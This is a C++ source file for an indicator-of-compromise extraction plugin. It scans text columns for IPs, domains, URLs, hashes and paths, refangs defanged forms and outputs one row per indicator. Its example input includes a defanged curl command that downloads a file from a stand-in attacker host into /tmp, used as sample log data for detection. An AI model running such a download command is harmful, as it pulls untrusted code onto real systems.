// SPDX-License-Identifier: Apache-2.0
//
// analyzer.ioc-extract: one row per distinct indicator in a text cell. What is found and what is
// not is decided in toolkit/ioc; here it meets columns and rows.
#define SPOOR_PLUGIN_LICENSE "Apache-2.0"
#include <spoor/plugin.hpp>

#include <optional>
#include <string>
#include <vector>

#include <toolkit/ioc/scanner.hpp>

#include "columns.hpp"
#include "excerpt.hpp"

namespace spoor_ioc {
namespace {

namespace ioc = spoor::toolkit::ioc;

const std::vector<std::string> kOwnColumns = {"observable", "type",     "column", "start",
                                              "length",     "defanged", "excerpt"};

/// The toolkit's errors as the wrapper's.
template <class T>
T value_of(spoor::toolkit::Result<T> result) {
  if (!result) throw spoor::error(result.error().code, result.error().text());
  return *std::move(result);
}

spoor::json::array type_names() {
  spoor::json::array out;
  for (int i = 0; i < ioc::kTypes; ++i)
    out.emplace_back(ioc::name(static_cast<ioc::Type>(i)));
  for (const char* alias : {"dns", "windows_path", "linux_path", "md5_hash", "sha1_hash",
                            "sha256_hash", "sha512_hash"}) {
    out.emplace_back(alias);
  }
  return out;
}

ioc::TypeSet wanted_types(const std::vector<std::string>& names) {
  if (names.empty()) return ioc::kDefaultTypes;
  ioc::TypeSet out;
  for (const std::string& name : names) {
    const auto type = ioc::parse_type(name);
    if (!type) {
      throw spoor::error(SPOOR_INVALID_ARGUMENT, "'" + name + "' is not an indicator type");
    }
    out.add(*type);
  }
  return out;
}

std::shared_ptr<const ioc::PublicSuffixList> suffix_list(const spoor::config& with) {
  const auto path = with.find_str("/suffix_list");
  if (!path) return value_of(ioc::PublicSuffixList::system());
  const spoor::files files(with.host());
  const spoor::file file = files.open(std::string(*path));
  return value_of(ioc::PublicSuffixList::parse(file.map(), std::string(*path)));
}

ioc::Scanner make_scanner(const spoor::config& with) {
  ioc::Options options;
  options.types = wanted_types(with.strings("/types"));
  options.defanged = with.boolean("/defanged");
  options.distinct = with.boolean("/distinct");
  options.check_suffix = with.boolean("/check_suffix");
  options.extra_suffixes = with.strings("/extra_suffixes");
  options.max_hits = static_cast<uint64_t>(with.i64("/max_hits"));
  options.suffixes = suffix_list(with);
  return value_of(ioc::Scanner::make(std::move(options)));
}

/// Rows found so far, as columns; handed over at the size of a batch.
class Findings {
 public:
  Findings(const spoor::batch& from, const std::vector<kept_column>& kept, uint64_t excerpt_size,
           spoor::writer& out)
      : from_(from), kept_(kept), excerpt_size_(excerpt_size), out_(out) {}

  void add(const ioc::Hits& hits, const ioc::Hit& hit, const spoor::column& source, int64_t row) {
    const std::string_view text = source.str(row);
    bytes_ += observable_.append(hits.value(hit));
    bytes_ += type_.append(ioc::name(hit.type));
    bytes_ += column_.append(source.name());
    bytes_ += start_.append(hit.start);
    bytes_ += length_.append(hit.length);
    bytes_ += defanged_.append(hit.defanged);
    if (excerpt_size_ > 0) {
      excerpt(text, hit.start, hit.length, excerpt_size_, scratch_);
      bytes_ += excerpt_.append(std::string_view(scratch_));
    }
    rows_.push_back(row);
    const bool full = static_cast<int64_t>(rows_.size()) >= spoor::batch_rows;
    if (full || bytes_ >= spoor::batch_bytes) flush();
  }

  void flush() {
    if (rows_.empty()) return;
    spoor::assembly batch = out_.assemble(static_cast<int64_t>(rows_.size()));
    batch.build(observable_).build(type_).build(column_).build(start_).build(length_);
    batch.build(defanged_);
    if (excerpt_size_ > 0) batch.build(excerpt_);
    for (const kept_column& kept : kept_)
      batch.take(from_, kept.index, rows_);
    batch.push();
    rows_.clear();
    bytes_ = 0;
  }

 private:
  const spoor::batch& from_;
  const std::vector<kept_column>& kept_;
  uint64_t excerpt_size_;
  spoor::writer& out_;
  spoor::column_builder observable_{spoor::utf8, "observable"};
  spoor::column_builder type_{spoor::utf8, "type"};
  spoor::column_builder column_{spoor::utf8, "column"};
  spoor::column_builder start_{spoor::i64, "start"};
  spoor::column_builder length_{spoor::i64, "length"};
  spoor::column_builder defanged_{spoor::boolean, "defanged"};
  spoor::column_builder excerpt_{spoor::utf8, "excerpt"};
  spoor::selection rows_;
  std::string scratch_;
  size_t bytes_ = 0;
};

}  // namespace

struct ioc_extract : spoor::rowwise {
  static constexpr auto id = "analyzer.ioc-extract";

  static void describe(spoor::descriptor& d) {
    d.summary("Addresses, domains, URLs, mail addresses, digests and paths found in text columns");
    d.security_posture("robust to untrusted input");
    d.effect("fs:read");
    d.param("columns", spoor::param_type::columns,
            "text columns to read; all of them if not given");
    d.param("types", spoor::param_type::strings,
            "what to look for; everything but paths if not given")
        .items_one_of(type_names());
    d.param("defanged", true,
            "recognise evil[.]com, hxxp://, user[at]host and report what is meant");
    d.param("distinct", true, "one row per distinct indicator of a cell, not per occurrence");
    d.param("check_suffix", true, "a domain must end in a public suffix or in an extra one");
    d.param("extra_suffixes", spoor::param_type::strings,
            "endings of domains besides the public ones: local, corp");
    d.param("suffix_list", spoor::param_type::path,
            "a copy of the public suffix list; the system's own if not given");
    d.param("keep", spoor::param_type::columns,
            "input columns to carry along; those with the roles @timestamp and host.name if not "
            "given");
    d.param("excerpt", 80, "bytes of the text around the indicator, 0 for no such column")
        .min(0)
        .max(4096);
    d.param("max_hits", 1'000'000, "indicators reported per cell").min(1).max(100'000'000);
    d.input("events").doc("a table with text");
    d.output("iocs", spoor::expand)
        .doc("one row per indicator, then the columns kept from the input")
        .dynamic()
        .column("observable", spoor::utf8, spoor::type("observable"), spoor::type_column("type"),
                spoor::doc("the indicator, refanged and decoded"))
        .column("type", spoor::utf8, spoor::doc("ipv4, ipv6, domain, url, email, md5, …"))
        .column("column", spoor::utf8, spoor::doc("the input column it stood in"))
        .column("start", spoor::i64, spoor::doc("byte offset in the cell"))
        .column("length", spoor::i64, spoor::doc("bytes in the cell, defanging included"))
        .column("defanged", spoor::boolean, spoor::doc("whether it was written defanged"));
    d.diagnostic("too_many_hits",
                 "a cell holds more indicators than max_hits; the rest is left out",
                 "raise max_hits");
    d.diagnostic("no_text_columns", "the input has no text column, so nothing was looked at",
                 "name columns, or look at the step before");
    d.example(R"({"columns": ["CommandLine"]})",
              R"([{"port": "events", "rows": [
                   {"CommandLine": "curl hxxp://evil[.]example.com/a -o /tmp/x", "Computer": "web-1"},
                   {"CommandLine": "ping 203.0.113.9", "Computer": "web-2"},
                   {"CommandLine": null, "Computer": "web-3"}]}])");
  }

  explicit ioc_extract(const spoor::config& with)
      : scanner(make_scanner(with)),
        named(with.strings("/columns")),
        excerpt_size(static_cast<uint64_t>(with.i64("/excerpt"))) {
    if (with.has("/keep")) keep = with.strings("/keep");
  }

  void prepare(spoor::schema_view in, spoor::out_schemas& out) {
    scanned = scanned_columns(in, named);
    kept = kept_columns(in, keep, kOwnColumns);
    const ioc::PublicSuffixList& list = *scanner.options().suffixes;
    spoor::output_schema& schema = out["iocs"];
    schema.column("observable", spoor::utf8, spoor::type("observable"),
                  std::pair<std::string, std::string>("spoor.type_column", "type"),
                  std::pair<std::string, std::string>("spoor.suffix_list", list.version()));
    schema.column("type", spoor::utf8).column("column", spoor::utf8);
    schema.column("start", spoor::i64).column("length", spoor::i64);
    schema.column("defanged", spoor::boolean);
    if (excerpt_size > 0) schema.column("excerpt", spoor::utf8);
    for (const kept_column& column : kept)
      schema.pass(in[column.index], column.name);
  }

  void process(const spoor::batch& rows, spoor::writer& out) const {
    if (scanned.empty() && rows.rows() > 0) out.call().diagnostic("no_text_columns");
    std::vector<spoor::column> sources;
    for (const size_t index : scanned)
      sources.push_back(rows.at(index));
    Findings findings(rows, kept, excerpt_size, out);
    ioc::Hits hits;
    for (int64_t row = 0; row < rows.rows(); ++row) {
      if (row % 256 == 0) out.call().check();
      for (const spoor::column& source : sources) {
        if (source.null(row)) continue;
        scanner.scan(source.str(row), hits);
        for (const ioc::Hit& hit : hits.all()) {
          if (hit.type == ioc::Type::kIpv4 && holds_versions(source.name())) continue;
          findings.add(hits, hit, source, row);
        }
        if (hits.dropped() > 0) report_dropped(out.call(), source, hits.dropped());
      }
    }
    findings.flush();
  }

 private:
  static void report_dropped(spoor::call_ref call, const spoor::column& source, uint64_t count) {
    call.diagnostic("too_many_hits", spoor::location().with("column", spoor::json(source.name())),
                    "more indicators in one cell than max_hits", "raise max_hits", count);
  }

  ioc::Scanner scanner;
  std::vector<std::string> named;
  std::optional<std::vector<std::string>> keep;
  uint64_t excerpt_size;
  std::vector<size_t> scanned;
  std::vector<kept_column> kept;
};

}  // namespace spoor_ioc

SPOOR_PLUGIN("io.spoor.ioc-extract", "0.1.0", spoor_ioc::ioc_extract)
